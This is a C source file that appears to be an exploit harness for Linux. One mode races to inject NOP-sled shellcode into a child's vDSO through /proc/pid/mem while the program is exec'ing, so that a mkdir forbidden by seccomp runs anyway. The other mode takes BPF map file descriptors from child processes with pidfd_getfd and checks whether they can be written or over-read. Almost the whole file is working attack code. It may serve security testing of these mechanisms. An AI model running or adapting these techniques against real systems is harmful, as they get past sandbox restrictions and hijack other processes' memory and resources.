/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * attack filter TRIES DIRECTORY: under a filter that forbids mkdir(2), starts a
 * program again and again, and replaces what the loader has it run. Prints one
 * line of JSON: tries, how often that was "replaced", and whether a directory
 * was "made" in the end.
 *
 * attack descriptor TRIES: starts a program again and again, and copies the
 * file descriptors that it has meanwhile (pidfd_getfd(2)). Prints how often one
 * of a BPF map was "taken", and how often one of these could be "written" or
 * showed "more" than a page by bpf(2) or mmap(2).
 *
 * To be run as an ordinary user. `attack program` is what is started.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* Of a try */
#define LIMIT_S 10
#define VDSO_MAX 16384

static void die(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	exit(1);
}

static pid_t start(void)
{
	pid_t pid = fork();

	if (pid < 0)
		die("fork");
	if (pid)
		return pid;
	alarm(LIMIT_S);
	execl("/proc/self/exe", "attack", "program", NULL);
	_exit(1);
}

static int has_ended(pid_t pid)
{
	return waitpid(pid, NULL, WNOHANG) == pid;
}

/* ---- The filter ---------------------------------------------------------- */

static void forbid_mkdir(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
			 offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mkdir, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EACCES),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	const struct sock_fprog program = { sizeof(code) / sizeof(*code),
					    code };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) ||
	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program))
		die("filter");
}

/* mkdir(2) of the path behind it, then exit_group(2). */
extern const unsigned char forbidden[], forbidden_path[], forbidden_end[];
__asm__(".pushsection .rodata\n"
	"forbidden:\n"
	"	mov	$83, %eax\n"
	"	lea	forbidden_path(%rip), %rdi\n"
	"	mov	$0777, %esi\n"
	"	syscall\n"
	"	mov	$231, %eax\n"
	"	xor	%edi, %edi\n"
	"	syscall\n"
	"forbidden_path:\n"
	"	.fill	64, 1, 0\n"
	"forbidden_end:\n"
	".popsection");

#define SLED 540

static uintptr_t vdso_of(const char *process)
{
	char path[32], line[256];
	uintptr_t at = 0;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%s/maps", process);
	maps = fopen(path, "re");
	while (maps && !at && fgets(line, sizeof(line), maps))
		if (strstr(line, "[vdso]"))
			at = strtoul(line, NULL, 16);
	if (maps)
		fclose(maps);
	return at;
}

static unsigned char own[VDSO_MAX];
static uintptr_t own_at;
static size_t stub;

/* Where the loader had us run something ourselves: it begins with mmap(2). */
static size_t learn_stub(void)
{
	static const unsigned char first[] = { 0xb8, 9, 0, 0, 0, 0x31, 0xff };
	const unsigned char *found =
		memmem(own, sizeof(own), first, sizeof(first));

	if (!found)
		die("the loader's code");
	return (size_t)(found - own);
}

static void learn_own_vdso(void)
{
	int memory = open("/proc/self/mem", O_RDONLY | O_CLOEXEC);

	own_at = vdso_of("self");
	if (memory < 0 || pread(memory, own, sizeof(own), (off_t)own_at) <= 0)
		die("own vDSO");
	close(memory);
	stub = learn_stub();
}

static int replace(int memory, uintptr_t vdso, const char *path)
{
	static unsigned char code[SLED + 128];
	size_t length = (size_t)(forbidden_end - forbidden);
	unsigned char now[8];

	/* At once when the first instruction is there. */
	if (pread(memory, now, sizeof(now), (off_t)(vdso + stub)) !=
		    sizeof(now) ||
	    memcmp(now, own + stub, sizeof(now)))
		return 0;
	memset(code, 0x90, sizeof(code));
	memcpy(code + SLED, forbidden, length);
	strcpy((char *)code + SLED + (forbidden_path - forbidden), path);
	return pwrite(memory, code, SLED + length, (off_t)(vdso + stub)) ==
	       (ssize_t)(SLED + length);
}

static int attack_start(const char *path)
{
	pid_t pid = start();
	int memory = -1, replaced = 0;
	uintptr_t vdso = 0;
	char process[16], name[32];

	snprintf(process, sizeof(process), "%d", pid);
	snprintf(name, sizeof(name), "/proc/%s/mem", process);
	while (!has_ended(pid)) {
		if (replaced)
			continue;
		/* Until its exec it has ours. */
		if (!vdso || vdso == own_at)
			vdso = vdso_of(process);
		if (vdso && vdso != own_at && memory < 0)
			memory = open(name, O_RDWR | O_CLOEXEC);
		if (memory >= 0)
			replaced = replace(memory, vdso, path);
	}
	if (memory >= 0)
		close(memory);
	return replaced;
}

static int attack_filter(int tries, const char *directory)
{
	char path[48];
	int replaced = 0;
	struct stat status;

	if (snprintf(path, sizeof(path), "%s/made", directory) >=
	    (int)sizeof(path))
		return 2;
	learn_own_vdso();
	forbid_mkdir();
	if (!mkdir(path, 0777) || errno != EACCES)
		die("the filter");
	for (int i = 0; i < tries; i++)
		replaced += attack_start(path);
	printf("{\"tries\":%d,\"replaced\":%d,\"made\":%d}\n", tries, replaced,
	       !stat(path, &status));
	return 0;
}

/* ---- The descriptor ------------------------------------------------------ */

#define DESCRIPTORS 8

static int is_map(int fd)
{
	char path[32], name[64] = "";

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return readlink(path, name, sizeof(name) - 1) > 0 &&
	       strstr(name, "bpf-map");
}

#define PAGE 4096

static int bpf(int command, union bpf_attr *attr)
{
	return (int)syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static int can_write(int map)
{
	static unsigned char page[PAGE];
	uint32_t key = 0;
	union bpf_attr element = { .map_fd = (uint32_t)map,
				   .key = (uintptr_t)&key,
				   .value = (uintptr_t)page };

	return !bpf(BPF_MAP_UPDATE_ELEM, &element) ||
	       mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, map, 0) !=
		       MAP_FAILED;
}

static int shows_more(int map)
{
	static unsigned char page[PAGE];
	uint32_t key = 1, next;
	union bpf_attr element = { .map_fd = (uint32_t)map,
				   .key = (uintptr_t)&key,
				   .value = (uintptr_t)page };
	union bpf_attr keys = { .map_fd = (uint32_t)map,
				.next_key = (uintptr_t)&next };
	int count = 0;

	while (!bpf(BPF_MAP_GET_NEXT_KEY, &keys)) {
		count++;
		key = next;
		keys.key = (uintptr_t)&key;
	}
	key = 1;
	return count > 1 || !bpf(BPF_MAP_LOOKUP_ELEM, &element) ||
	       mmap(NULL, PAGE, PROT_READ, MAP_SHARED, map, PAGE) != MAP_FAILED;
}

static int attack_descriptor(int tries)
{
	int taken = 0, written = 0, more = 0;

	for (int i = 0; i < tries; i++) {
		pid_t pid = start();
		int process = (int)syscall(SYS_pidfd_open, pid, 0);

		for (int fd = 3; !has_ended(pid);
		     fd = 3 + (fd - 2) % DESCRIPTORS) {
			int copy =
				(int)syscall(SYS_pidfd_getfd, process, fd, 0);

			if (copy < 0)
				continue;
			if (is_map(copy)) {
				taken++;
				written += can_write(copy);
				more += shows_more(copy);
			}
			close(copy);
		}
		close(process);
	}
	printf("{\"tries\":%d,\"taken\":%d,\"written\":%d,\"more\":%d}\n",
	       tries, taken, written, more);
	return 0;
}

int main(int argc, char **argv)
{
	/* As programs of ordinary users are, for each other. */
	prctl(PR_SET_DUMPABLE, 1);
	if (argc == 4 && !strcmp(argv[1], "filter"))
		return attack_filter(atoi(argv[2]), argv[3]);
	if (argc == 3 && !strcmp(argv[1], "descriptor"))
		return attack_descriptor(atoi(argv[2]));
	return argc == 2 && !strcmp(argv[1], "program") ? 0 : 2;
}
